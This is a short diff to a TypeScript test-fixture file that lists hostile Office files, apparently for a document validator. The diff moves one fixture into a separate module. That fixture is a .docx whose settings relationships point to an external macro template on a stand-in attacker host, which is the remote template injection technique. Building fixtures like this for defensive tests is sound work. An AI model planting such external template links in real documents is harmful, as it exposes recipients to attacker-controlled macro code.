@@ -1,5 +1,6 @@
 import { officeBytes } from './evidence-bytes';
 import type { HostileFile } from './hostile-files';
+import { LINKED } from './hostile-links';
 import { zip, type ZipEntry } from './zip-bytes';
 
 const MB = 1024 ** 2;
@@ -190,16 +191,5 @@ export const HOSTILE_OFFICE: HostileFile[] = [
     () => Buffer.concat([Buffer.from('halo\n'), officeBytes('xlsx')]),
     'kindUnknown',
   ),
-  office(
-    'a template from elsewhere',
-    'a.docx',
-    () =>
-      officeBytes('docx', [
-        part(
-          'word/_rels/settings.xml.rels',
-          '<Relationships><Relationship Target="https://jahat.example/a.dotm" TargetMode="External"/></Relationships>',
-        ),
-      ]),
-    null,
-  ),
+  ...LINKED,
 ];
